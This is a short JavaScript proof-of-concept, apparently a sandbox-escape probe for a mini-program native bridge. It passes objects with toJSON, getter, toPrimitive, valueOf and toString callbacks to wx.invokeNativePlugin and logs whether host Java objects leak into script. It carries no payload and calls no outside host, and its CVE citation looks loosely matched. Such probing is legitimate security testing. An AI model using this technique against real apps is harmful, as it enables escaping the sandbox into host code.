// Reads the receiver and the holder while the host turns parameters into text
// Source: the kind of CVE-2020-7656; bridges that walk objects in host code
const look = (value) => {
  if (value && value.getClass) console.log('ESCAPED: an object of Java');
  return 1;
};
const data = {
  a: { toJSON(key) { look(this); return look(key); } },
  get b() { return look(this); },
  [Symbol.toPrimitive]() { return look(this); },
  c: { valueOf() { return look(this); }, toString() { return look(this); } },
};
wx.invokeNativePlugin({ api_name: 'echo', data });
wx.invokeNativePlugin({ api_name: { toString() { look(this); return 'echo'; } }, data });
